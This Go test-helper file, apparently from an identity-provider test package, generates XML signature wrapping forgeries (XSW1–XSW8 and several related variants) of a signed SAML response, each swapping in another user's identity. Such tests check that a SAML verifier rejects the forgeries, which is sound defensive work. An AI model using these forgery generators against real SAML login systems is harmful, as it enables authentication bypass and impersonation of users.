package idptest

import (
	"strings"

	"github.com/beevik/etree"
)

// Wrapped gives what attackers make of a genuine response (XML signature wrapping): each form has somebody else where a
// careless reader looks, and what was signed somewhere else. from and to are texts that the evil copy has instead.
func Wrapped(genuine, from, to string) map[string]string {
	out := map[string]string{}
	add := func(name string, make func(doc *etree.Document, response, assertion, evil *etree.Element) bool) {
		doc := etree.NewDocument()
		if doc.ReadFromString(genuine) != nil {
			return
		}
		response := doc.Root()
		assertion := response.FindElement("./Assertion")
		if assertion == nil {
			return
		}
		evil := changed(assertion, from, to)
		if !make(doc, response, assertion, evil) {
			return
		}
		if text, err := doc.WriteToString(); err == nil {
			out[name] = text
		}
	}
	signature := func(e *etree.Element) *etree.Element { return e.FindElement("./Signature") }
	unsigned := func(e *etree.Element) *etree.Element {
		c := e.Copy()
		if s := signature(c); s != nil {
			c.RemoveChild(s)
		}
		return c
	}
	renamed := func(e *etree.Element, id string) *etree.Element {
		e.CreateAttr("ID", id)
		return e
	}
	for _, where := range []string{"inside the signature", "behind the signature"} {
		name := map[string]string{"inside the signature": "XSW1", "behind the signature": "XSW2"}[where]
		add(name, func(doc *etree.Document, response, _, evil *etree.Element) bool {
			sig := signature(response)
			if sig == nil {
				return false
			}
			original := unsigned(response)
			response.RemoveChild(response.FindElement("./Assertion"))
			response.AddChild(evil)
			renamed(response, "_evil-response")
			if where == "inside the signature" {
				sig.CreateElement("ds:Object").AddChild(original)
				sig.FindElement("./Object").CreateAttr("xmlns:ds", "http://www.w3.org/2000/09/xmldsig#")
			} else {
				response.InsertChildAt(sig.Index(), original)
			}
			return true
		})
	}
	add("XSW3", func(_ *etree.Document, response, assertion, evil *etree.Element) bool {
		response.InsertChildAt(assertion.Index(), renamed(stripped(evil), "_evil"))
		return true
	})
	add("XSW4", func(_ *etree.Document, response, assertion, evil *etree.Element) bool {
		response.RemoveChild(assertion)
		evil = renamed(stripped(evil), "_evil")
		evil.AddChild(assertion)
		response.AddChild(evil)
		return true
	})
	add("XSW5", func(_ *etree.Document, response, assertion, evil *etree.Element) bool {
		if signature(assertion) == nil {
			return false
		}
		original := unsigned(assertion)
		response.RemoveChild(assertion)
		response.AddChild(renamed(evil, "_evil")) // with the signature
		response.AddChild(original)
		return true
	})
	add("XSW6", func(_ *etree.Document, response, assertion, evil *etree.Element) bool {
		sig := signature(evil)
		if sig == nil {
			return false
		}
		original := unsigned(assertion)
		response.RemoveChild(assertion)
		sig.AddChild(original)
		response.AddChild(renamed(evil, "_evil"))
		return true
	})
	add("XSW7", func(_ *etree.Document, response, assertion, evil *etree.Element) bool {
		extensions := etree.NewElement("samlp:Extensions")
		extensions.CreateAttr("xmlns:samlp", "urn:oasis:names:tc:SAML:2.0:protocol")
		extensions.AddChild(stripped(evil))
		response.InsertChildAt(assertion.Index(), extensions)
		return true
	})
	add("XSW8", func(_ *etree.Document, response, assertion, evil *etree.Element) bool {
		sig := signature(evil)
		if sig == nil {
			return false
		}
		original := unsigned(assertion)
		response.RemoveChild(assertion)
		object := etree.NewElement("ds:Object")
		object.CreateAttr("xmlns:ds", "http://www.w3.org/2000/09/xmldsig#")
		object.AddChild(original)
		sig.AddChild(object)
		response.AddChild(renamed(evil, "_evil"))
		return true
	})
	add("an assertion behind", func(_ *etree.Document, response, _, evil *etree.Element) bool {
		response.AddChild(renamed(stripped(evil), "_evil"))
		return true
	})
	add("the same ID behind", func(_ *etree.Document, response, _, evil *etree.Element) bool {
		response.AddChild(stripped(evil))
		return true
	})
	add("no signature at all", func(_ *etree.Document, response, assertion, evil *etree.Element) bool {
		if sig := signature(response); sig != nil {
			response.RemoveChild(sig)
		}
		response.RemoveChild(assertion)
		response.AddChild(stripped(evil))
		return true
	})
	add("edited under the signature", func(_ *etree.Document, response, assertion, evil *etree.Element) bool {
		response.RemoveChild(assertion)
		response.AddChild(evil)
		return true
	})
	return out
}

func stripped(e *etree.Element) *etree.Element {
	if s := e.FindElement("./Signature"); s != nil {
		e.RemoveChild(s)
	}
	return e
}

// changed copies an assertion and makes it somebody else's. What its prefixes stand for goes with it.
func changed(assertion *etree.Element, from, to string) *etree.Element {
	evil := assertion.Copy()
	var walk func(e *etree.Element)
	walk = func(e *etree.Element) {
		for _, c := range e.Child {
			switch c := c.(type) {
			case *etree.CharData:
				c.Data = strings.ReplaceAll(c.Data, from, to)
			case *etree.Element:
				if c.Tag != "Signature" {
					walk(c)
				}
			}
		}
	}
	walk(evil)
	return evil
}
